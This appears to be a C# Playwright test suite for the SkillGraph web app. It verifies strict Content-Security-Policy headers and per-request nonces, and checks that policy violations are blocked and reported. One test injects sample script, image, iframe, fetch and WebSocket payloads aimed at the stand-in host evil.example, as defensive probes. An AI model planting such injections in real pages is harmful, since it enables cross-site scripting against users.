using Microsoft.Playwright;
using SkillGraph.Testing;
using static Microsoft.Playwright.Assertions;

namespace SkillGraph.Web.Tests;

/// <summary>Every page goes out with a strict content policy and keeps to it, and what breaks it is stopped and reported.</summary>
[Collection(InABrowser.Name)]
public sealed class KeepingTheContentPolicy(Browser browser)
{
    private const string Room = "/rooms/room_00000000000070008000000000000000";

    public static TheoryData<string> Pages =>
    [
        "/", Room, $"{Room}/replay", "/operations", "/docs", "/docs/",
        "/register", "/sign-in", "/verify-email", "/confirm-email", "/forgot-password", "/reset-password", "/me", "/me/security", "/me/privacy", "/users/usr_00000000000070008000000000000001",
        "/admin", "/admin/reports", "/admin/audit",
    ];

    [Theory]
    [MemberData(nameof(Pages))]
    public async Task A_page_may_load_and_run_our_own_files_alone(string page)
    {
        using var http = new HttpClient { BaseAddress = browser.Server.Address };
        using var answer = await http.GetAsync(page);
        using var again = await http.GetAsync(page);
        var policy = Policy(answer);
        Assert.Equal("default-src 'none'", policy[0]);
        foreach (var directive in new[] { "script-src 'self'", "object-src 'none'", "base-uri 'none'", "form-action 'none'", "frame-ancestors 'none'", "report-uri /v1/policy-violations" }) Assert.Contains(directive, policy);
        Assert.DoesNotContain(policy, directive => directive.Contains("unsafe", StringComparison.Ordinal) || directive.Contains('*') || directive.Contains("http:", StringComparison.Ordinal) || directive.Contains("https:", StringComparison.Ordinal));
        Assert.Equal("nosniff", answer.Headers.GetValues("X-Content-Type-Options").Single());
        Assert.Equal("no-store", answer.Headers.CacheControl?.ToString());

        var (nonce, other) = (Nonce(policy), Nonce(Policy(again)));
        Assert.NotEqual(nonce, other);
        Assert.Equal(22, nonce.Length);
        var html = await answer.Content.ReadAsStringAsync();
        Assert.Contains($"nonce=\"{nonce}\"", html, StringComparison.Ordinal);
        Assert.DoesNotContain("@nonce@", html, StringComparison.Ordinal);
    }

    [Fact]
    public async Task No_page_breaks_it_while_people_use_it()
    {
        await using var ada = await browser.Visit();
        var broken = await Violations.Watch(ada.Page);
        await ada.EnterLobby("Ada");
        var room = await ada.OpenRoom("By the rules");
        await ada.AddFile("main.py");
        await ada.Type("def rules():\n    return 'kept'\n");
        await ada.Page.Keyboard.PressAsync("Control+f");
        await ada.Page.Keyboard.PressAsync("Escape");
        await ada.Chat("Do we keep to them?");
        await using var grace = await browser.Visit();
        var alsoBroken = await Violations.Watch(grace.Page);
        await grace.EnterRoom(room, "Grace");
        await grace.Type("# Grace\n");
        await ada.The("raise-hand").ClickAsync();
        await ada.Page.GotoAsync($"{room}/replay");
        await ada.The("replay-timeline").WaitForAsync();
        await ada.The("replay-timeline").PressAsync("End");
        await Expect(ada.The("replay-editor")).ToContainTextAsync("kept");
        await ada.Page.GotoAsync("/operations");
        await ada.The("operator-key").WaitForAsync();
        await ada.Page.GotoAsync("/docs/");
        await ada.Page.GetByText("/v1/rooms/{id}/commands").ClickAsync();
        await ada.Page.Locator(".try-out__btn").First.ClickAsync();
        Assert.Empty(broken.All);
        Assert.Empty(alsoBroken.All);
        Assert.Empty(ada.Complaints);
        Assert.Empty(grace.Complaints);
        Assert.DoesNotContain("content policy", browser.Server.Log, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("document.body.append(Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' }))", "require-trusted-types-for, trusted-types-sink")]
    [InlineData("document.body.append(Object.assign(document.createElement('style'), { textContent: 'body { color: red }' }))", "style-src-elem, inline")]
    [InlineData("document.body.append(Object.assign(document.createElement('img'), { src: 'https://evil.example/x.png' }))", "img-src, https://evil.example")]
    [InlineData("document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' }))", "frame-src, https://evil.example")]
    [InlineData("document.body.setAttribute('onclick', '1')", "require-trusted-types-for, trusted-types-sink")]
    [InlineData("document.body.innerHTML += '<b>bold</b>'", "require-trusted-types-for, trusted-types-sink")]
    [InlineData("void fetch('https://evil.example/').catch(() => 0)", "connect-src, https://evil.example")]
    [InlineData("new WebSocket('wss://evil.example/')", "connect-src, wss://evil.example")]
    public async Task What_breaks_it_is_stopped_and_reported(string script, string reported)
    {
        await using var server = await ServerProcess.Start();
        await using var ada = await browser.Visit(server.Address);
        var broken = await Violations.Watch(ada.Page);
        await ada.Page.GotoAsync("/");
        await ada.The("guest-name").WaitForAsync();
        await ada.Page.EvaluateAsync($"() => {{ try {{ {script} }} catch {{ }} }}");
        await server.Logged($"A page did what its content policy forbids: /, {reported}");
        for (var waited = 0; broken.All.Count == 0 && waited < 50; waited++) await Task.Delay(100);
        Assert.NotEmpty(broken.All);
    }

    private static string[] Policy(HttpResponseMessage answer) => answer.Headers.GetValues("Content-Security-Policy").Single().Split("; ");

    private static string Nonce(string[] policy) => policy.Single(directive => directive.StartsWith("style-src 'self' 'nonce-", StringComparison.Ordinal)).Split("'nonce-")[1].TrimEnd('\'');
}

/// <summary>What a page did that its content policy forbids, as its browser tells it.</summary>
internal sealed class Violations
{
    private readonly List<string> _all = [];

    public IReadOnlyCollection<string> All
    {
        get
        {
            lock (_all) return [.. _all];
        }
    }

    public static async Task<Violations> Watch(IPage page)
    {
        var violations = new Violations();
        await page.ExposeFunctionAsync("tellViolation", (string what) => violations.Add(what));
        await page.AddInitScriptAsync("document.addEventListener('securitypolicyviolation', one => tellViolation(`${one.effectiveDirective} ${one.blockedURI} ${one.sample} at ${one.documentURI}`))");
        return violations;
    }

    private void Add(string what)
    {
        lock (_all) _all.Add(what);
    }
}
